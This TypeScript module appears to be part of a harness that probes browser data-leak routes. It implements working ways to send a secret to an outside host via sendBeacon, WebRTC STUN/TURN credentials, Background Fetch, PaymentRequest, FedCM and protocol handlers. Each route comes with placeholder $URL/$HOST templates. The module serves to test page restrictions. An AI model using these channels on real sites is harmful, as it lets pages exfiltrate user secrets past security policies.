import { missing, noWord, type Channel, type Outcome } from './channel.ts';
import { succeeded } from './request-channels.ts';
import { wait } from './stage.ts';

/** Ways out that only a page has: direct lines to other devices, and what the browser fetches on its behalf. */
export const lineChannels: readonly Channel[] = [
  {
    id: 'beacon',
    words: 'send a parting note',
    code: "navigator.sendBeacon('$URL', secret)",
    // It answers true although it was refused: only a report counts here.
    run: ({ url, secret }) => (navigator.sendBeacon(url, secret), noWord),
  },
  ...(['stun', 'turn', 'turns'] as const).map((kind): Channel => ({
    id: `rtc-${kind}`,
    words: {
      stun: 'ask a stranger for the way to another device',
      turn: 'reach another device through a stranger',
      turns: 'do the same, encrypted',
    }[kind],
    code: `new RTCPeerConnection({ iceServers: [{ urls: '${kind}:$HOST' }] })`,
    run: async ({ host, secret }) => await gather({ urls: `${kind}:${host}`, username: secret, credential: secret }),
  })),
  {
    id: 'rtc-turn-tcp',
    words: 'do it over another kind of line',
    code: "new RTCPeerConnection({ iceServers: [{ urls: 'turn:$HOST?transport=tcp' }] })",
    run: async ({ host, secret }) =>
      await gather({ urls: `turn:${host}?transport=tcp`, username: secret, credential: secret }),
  },
  {
    id: 'background-fetch',
    words: 'have the browser fetch in the background',
    code: "registration.backgroundFetch.fetch('leak', ['$URL'])",
    run: async ({ url }) => {
      const registration = (await navigator.serviceWorker?.getRegistration()) as unknown as
        | { backgroundFetch?: { fetch(id: string, urls: string[]): Promise<{ abort(): unknown }> } }
        | undefined;
      if (!registration?.backgroundFetch) return missing;
      const fetching = await registration.backgroundFetch.fetch(`leak-${Date.now()}`, [url]);
      return succeeded(await fetching.abort());
    },
  },
  {
    id: 'payment',
    words: 'ask a shop whether it takes payment',
    code: "new PaymentRequest([{ supportedMethods: '$URL' }], total).canMakePayment()",
    run: async ({ url }) => {
      if (typeof PaymentRequest === 'undefined') return missing;
      const total = { label: 'Nothing', amount: { currency: 'EUR', value: '0' } };
      await new PaymentRequest([{ supportedMethods: url }], { total }).canMakePayment();
      return noWord;
    },
  },
  {
    id: 'identity',
    words: 'ask a stranger to sign one in',
    code: "navigator.credentials.get({ identity: { providers: [{ configURL: '$URL' }] } })",
    run: async ({ url }) => {
      if (!('IdentityCredential' in globalThis)) return missing;
      const identity = { providers: [{ configURL: url, clientId: 'leak' }] };
      return succeeded(await navigator.credentials.get({ identity } as CredentialRequestOptions));
    },
  },
  {
    id: 'protocol-handler',
    words: 'have a stranger open one’s links',
    code: "navigator.registerProtocolHandler('web+leak', '$URL&to=%s')",
    // Never a question to the person: another site's address is refused before.
    run: ({ url }) => {
      if (!('registerProtocolHandler' in navigator)) return missing;
      navigator.registerProtocolHandler('web+leak', `${url}&to=%s`);
      return noWord;
    },
  },
];

/** Candidates of the kinds `srflx` and `relay` come from the stranger: then it was reached. */
async function gather(server: RTCIceServer): Promise<Outcome> {
  if (typeof RTCPeerConnection === 'undefined') return missing;
  const peer = new RTCPeerConnection({ iceServers: [server] });
  const reached = Promise.withResolvers<Outcome>();
  peer.addEventListener('icecandidate', ({ candidate }) => {
    if (candidate?.type === 'srflx' || candidate?.type === 'relay') reached.resolve({ kind: 'worked' });
  });
  try {
    peer.createDataChannel('leak');
    await peer.setLocalDescription(await peer.createOffer());
    return await Promise.race([reached.promise, wait(400).then(() => noWord)]);
  } finally {
    peer.close();
  }
}
